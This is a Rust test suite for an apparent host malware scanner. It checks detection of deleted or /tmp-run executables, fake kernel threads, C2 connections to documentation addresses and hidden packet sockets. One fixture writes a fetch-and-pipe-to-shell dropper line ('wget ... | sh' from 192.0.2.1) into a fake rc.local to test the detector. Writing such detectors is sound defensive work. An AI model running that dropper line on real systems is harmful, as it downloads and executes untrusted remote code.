//! Finds on this machine what is really planted on it, and nothing once it is gone; healthy look-alikes are silent.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, clippy::print_stderr, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::fs;
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

use nix::libc::linger;
use nix::sys::socket::sockopt::Linger;
use nix::sys::socket::{
    AddressFamily, SockFlag, SockType, SockaddrIn, SockaddrIn6, SockaddrLike, bind, connect, setsockopt,
    socket,
};
use scan::{Outcome, Planted, Sleeper, Tree, alone_with, need_root, run, scan};
use serde_json::Value;

/// All checks, of which this process gives exactly one finding: `check severity`.
#[track_caller]
fn accused(pid: u32, expected: &str, path: &str) {
    let outcome = scan([""; 0]);
    let found = outcome.with("pid", pid);
    let [row] = found[..] else { panic!("pid {pid}: {found:?}") };
    assert_eq!(format!("{} {}", word(row, "check"), word(row, "severity")), expected);
    assert_eq!(row["path"], path);
    assert!([1, 2].contains(&outcome.status) || expected.ends_with("notice"), "status {}", outcome.status);
}

fn word<'a>(row: &'a Value, key: &str) -> &'a str {
    row[key].as_str().unwrap_or_default()
}

#[track_caller]
fn silent(pid: u32) {
    assert_eq!(scan([""; 0]).with("pid", pid), [&Value::Null; 0]);
}

fn only(check: &str) -> i32 {
    scan(["--only", check]).status
}

#[test]
fn a_program_that_was_started_from_tmp_and_removed() {
    need_root();
    let planted = Planted::new("/tmp/gatewatch-live-removed", "x");
    let process = planted.start();
    fs::remove_file(&planted.exe).unwrap();
    accused(process.pid(), "exe-deleted infected", planted.path());
    assert_eq!(only("exe-deleted"), 2);
    let pid = process.pid();
    drop(process);
    silent(pid);
}

#[test]
fn a_program_that_runs_from_tmp() {
    need_root();
    let planted = Planted::new("/tmp/gatewatch-live-volatile", "x");
    let process = planted.start();
    accused(process.pid(), "exe-volatile suspicious", planted.path());
    assert_eq!(only("exe-volatile"), 1);
    let pid = process.pid();
    drop(process);
    silent(pid);
}

#[test]
fn a_program_that_looks_like_a_kernel_thread() {
    need_root();
    let shell = fs::canonicalize("/bin/sh").unwrap();
    let by_argument = Sleeper::called("[kworker/0:1]");
    let by_name = Sleeper::start(&shell, "echo kworker/0:1 >/proc/self/comm", |_| {});
    for process in [by_argument, by_name] {
        accused(process.pid(), "fake-kthread infected", shell.to_str().unwrap());
        assert_eq!(only("fake-kthread"), 2);
        let pid = process.pid();
        drop(process);
        silent(pid);
    }
}

#[test]
fn programs_that_only_look_odd() {
    need_root();
    let home = Planted::new("/root//.gatewatch-live", "x");
    let processes = [
        home.start(),
        Sleeper::called("["),
        Sleeper::called("[lxc monitor] /var/lib/lxc c1"),
        Sleeper::called("watchdog"),
    ];
    let outcome = scan([""; 0]);
    for (at, process) in processes.iter().enumerate() {
        // No package has what lies in a home; that it is hidden there is nothing.
        let expected: &[&str] = if at == 0 { &["exe-unowned"] } else { &[] };
        let found: Vec<_> = outcome.with("pid", process.pid()).iter().map(|row| word(row, "check")).collect();
        assert_eq!(found, expected);
    }
    let is_kernel = |pid: &Value| fs::read_link(format!("/proc/{pid}/exe")).is_err();
    let kernel: Vec<_> =
        outcome.with("check", "fake-kthread").into_iter().filter(|row| is_kernel(&row["pid"])).collect();
    assert_eq!(kernel, [&Value::Null; 0], "a true kernel thread");
}

#[test]
fn gatewatch_in_tmp_accuses_others_of_its_name_but_not_itself() {
    need_root();
    let own = Planted::new("/tmp/gatewatch-live-own", "gatewatch");
    own.copy(scan::GATEWATCH);
    let other = Planted::new("/tmp/gatewatch-live-other", "gatewatch");
    let process = other.start();
    let outcome = Outcome::of(run(Command::new(&own.exe).args(["-v", "--format", "json"])));
    assert_eq!(outcome.with("path", own.path()), [&Value::Null; 0]);
    let found = outcome.with("pid", process.pid());
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((word(found[0], "path"), word(found[0], "name")), (other.path(), "gatewatch"));
}

/// A scan of a machine whose packages own what `owned` says; the lists are put in place for the scan only.
fn with_packages(owned: &str) -> Outcome {
    let lists = Tree::new().dir("info");
    if !owned.is_empty() {
        fs::write(lists.path().join("info/x.list"), format!("/.\n{owned}\n")).unwrap();
    }
    let script = r#"mount --bind "$1" /var/lib/dpkg/info && exec "$0" --only exe-deleted -v --format json"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script, scan::GATEWATCH]).arg(lists.path().join("info"));
    Outcome::of(run(&mut command))
}

#[test]
fn a_daemon_that_still_runs_after_an_upgrade() {
    need_root();
    let planted = Planted::new("/usr/lib/gatewatch-live", "daemon");
    let process = planted.start();
    planted.copy("/bin/sh");
    let weight = |outcome: &Outcome| {
        outcome
            .with("pid", process.pid())
            .iter()
            .map(|row| word(row, "severity").to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(weight(&with_packages(planted.path())), [""; 0], "its package has a file there");
    assert_eq!(weight(&with_packages("/usr/bin/other")), ["suspicious"], "no package knows the file");
    assert_eq!(weight(&with_packages("")), ["notice"], "nobody says what is installed");
    fs::remove_file(&planted.exe).unwrap();
    assert_eq!(weight(&with_packages(planted.path())), ["suspicious"], "no file is there");
}

#[test]
fn a_startup_line_that_fetches_and_runs() {
    let dropper = "#!/bin/sh\n\nwget -q -O - http://192.0.2.1/x.sh | sh\nexit 0\n";
    let tree = Tree::new().file("etc/rc.local", dropper);
    let outcome = scan(["--root".as_ref(), tree.path().as_os_str()]);
    assert_eq!((outcome.short(), outcome.status), (vec!["startup-dropper infected 3".into()], 2));
    assert_eq!(outcome.findings[0]["path"], "/etc/rc.local");

    let tree = tree.file("etc/rc.local", "exit 0\n").file("etc/init.d/x", "# x\n\n\n/tmp/.x/bot &\n");
    let outcome = scan(["--root".as_ref(), tree.path().as_os_str()]);
    assert_eq!((outcome.short(), outcome.status), (vec!["startup-volatile suspicious 4".into()], 1));
    assert_eq!(outcome.findings[0]["path"], "/etc/init.d/x");

    let tree = tree.file("etc/init.d/x", "echo $$ >/tmp/x.pid\n");
    let outcome = scan(["--root".as_ref(), tree.path().as_os_str()]);
    assert_eq!((outcome.findings.len(), outcome.status), (0, 0), "{outcome:?}");
}

const ADDRESSES: &[&str] =
    &["192.0.2.1/32", "198.51.100.7/32", "198.51.100.8/32", "2001:db8::1/128", "2001:db8::7/128"];

fn name(address: SocketAddr) -> Box<dyn SockaddrLike> {
    match address {
        SocketAddr::V4(address) => Box::new(SockaddrIn::from(address)),
        SocketAddr::V6(address) => Box::new(SockaddrIn6::from(address)),
    }
}

/// A connection to `to` that begins at the address `from`, and leaves nothing behind when it is closed.
fn connection(from: &str, to: SocketAddr) -> TcpStream {
    let from = SocketAddr::new(from.parse::<IpAddr>().unwrap(), 0);
    let family = if to.is_ipv6() { AddressFamily::Inet6 } else { AddressFamily::Inet };
    let fd: OwnedFd = socket(family, SockType::Stream, SockFlag::SOCK_CLOEXEC, None).unwrap();
    setsockopt(&fd, Linger, &linger { l_onoff: 1, l_linger: 0 }).unwrap();
    bind(fd.as_raw_fd(), &*name(from)).unwrap();
    connect(fd.as_raw_fd(), &*name(to)).unwrap();
    fd.into()
}

/// A process that holds the socket, and nobody else does.
fn holder(socket: impl Into<OwnedFd>) -> Sleeper {
    Sleeper::start(Path::new("/bin/sh"), ":", |command| {
        command.arg0("holder").stdout(socket.into());
    })
}

fn c2() -> Outcome {
    let file = scan::intel("live.gwi");
    scan(["--only".as_ref(), "c2-address".as_ref(), "--intel".as_ref(), file.as_os_str()])
}

/// The one finding, about this process and these ends.
#[track_caller]
fn speaks(process: &Sleeper, severity: &str, family: &str, local: SocketAddr, remote: SocketAddr) {
    let outcome = c2();
    let [row] = &outcome.findings[..] else { panic!("{outcome:?}") };
    let shell = fs::canonicalize("/bin/sh").unwrap();
    let keys = ["check", "severity", "family", "path", "local", "remote"].map(|key| word(row, key));
    let (local, remote) = (local.to_string(), remote.to_string());
    assert_eq!(keys, ["c2-address", severity, family, shell.to_str().unwrap(), &local, &remote]);
    assert_eq!(row["pid"], process.pid());
    assert_eq!(outcome.status, if severity == "infected" { 2 } else { 0 });
    assert_eq!(outcome.looked("c2-address"), ("yes", ""));
}

#[track_caller]
fn quiet() {
    let outcome = c2();
    assert_eq!((outcome.findings.len(), outcome.status), (0, 0), "{outcome:?}");
}

#[test]
fn a_connection_to_a_listed_address() {
    alone_with(ADDRESSES, || {
        for (from, to) in [("192.0.2.1", "198.51.100.7:443"), ("2001:db8::1", "[2001:db8::7]:443")] {
            let listener = TcpListener::bind(to).unwrap();
            let to = listener.local_addr().unwrap();
            let connection = connection(from, to);
            let from = connection.local_addr().unwrap();
            let family = if to.is_ipv6() { "emotet" } else { "trickbot" };
            let process = holder(connection);
            speaks(&process, "infected", family, from, to);
            drop(process);
            quiet();
        }
    });
}

#[test]
fn a_udp_socket_connected_to_a_listed_address() {
    alone_with(ADDRESSES, || {
        for (from, to) in [("192.0.2.1:0", "198.51.100.7:443"), ("[2001:db8::1]:0", "[2001:db8::7]:443")] {
            let socket = UdpSocket::bind(from).unwrap();
            socket.connect(to).unwrap();
            let (from, to) = (socket.local_addr().unwrap(), socket.peer_addr().unwrap());
            let family = if to.is_ipv6() { "emotet" } else { "trickbot" };
            let process = holder(socket);
            speaks(&process, "infected", family, from, to);
            drop(process);
            quiet();
        }
    });
}

#[test]
fn a_listed_address_that_comes_by_is_no_infection() {
    alone_with(ADDRESSES, || {
        let listener = TcpListener::bind("192.0.2.1:80").unwrap();
        let visitor = connection("198.51.100.8", listener.local_addr().unwrap());
        let (accepted, remote) = listener.accept().unwrap();
        let local = accepted.local_addr().unwrap();
        let process = holder(accepted);
        speaks(&process, "notice", "mirai", local, remote);
        drop((process, visitor));
    });
}

#[test]
fn another_port_or_address_is_none() {
    alone_with(ADDRESSES, || {
        let listener = TcpListener::bind("198.51.100.7:444").unwrap();
        let _held = holder(connection("192.0.2.1", listener.local_addr().unwrap()));
        let listener = TcpListener::bind("192.0.2.1:443").unwrap();
        let _own = holder(connection("192.0.2.1", listener.local_addr().unwrap()));
        let socket = UdpSocket::bind("192.0.2.1:0").unwrap();
        socket.connect("198.51.100.7:53").unwrap();
        let _udp = holder(socket);
        quiet();
    });
}

/// A socket that lies in the queue of another one, so that it is there and nobody has it: as if its holder were hidden.
#[test]
fn a_packet_socket_that_no_process_holds() {
    alone_with(&[], || {
        let raw = || scan(["--only", "raw-socket"]);
        assert_eq!(raw().short(), [""; 0]);
        let protocol = nix::sys::socket::SockProtocol::EthAll;
        let packets = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, protocol).unwrap();
        let (one, other) = std::os::unix::net::UnixDatagram::pair().unwrap();
        let fds = [packets.as_raw_fd()];
        let with = [nix::sys::socket::ControlMessage::ScmRights(&fds)];
        let flags = nix::sys::socket::MsgFlags::empty();
        let bytes = [std::io::IoSlice::new(b"x")];
        nix::sys::socket::sendmsg::<()>(one.as_raw_fd(), &bytes, &with, flags, None).unwrap();
        drop(packets);
        let outcome = raw();
        let (looked, why) = outcome.looked("raw-socket");
        if looked == "yes" {
            assert_eq!(outcome.short(), ["raw-socket suspicious"]);
        } else {
            // Where some process cannot be seen, or not its descriptors, it may be the holder.
            let unseen = ["descriptors", "pid namespace"].iter().any(|word| why.contains(word));
            assert!(outcome.findings.is_empty() && unseen, "{looked}: {why}");
        }
        drop((one, other));
        assert_eq!(raw().short(), [""; 0]);
    });
}
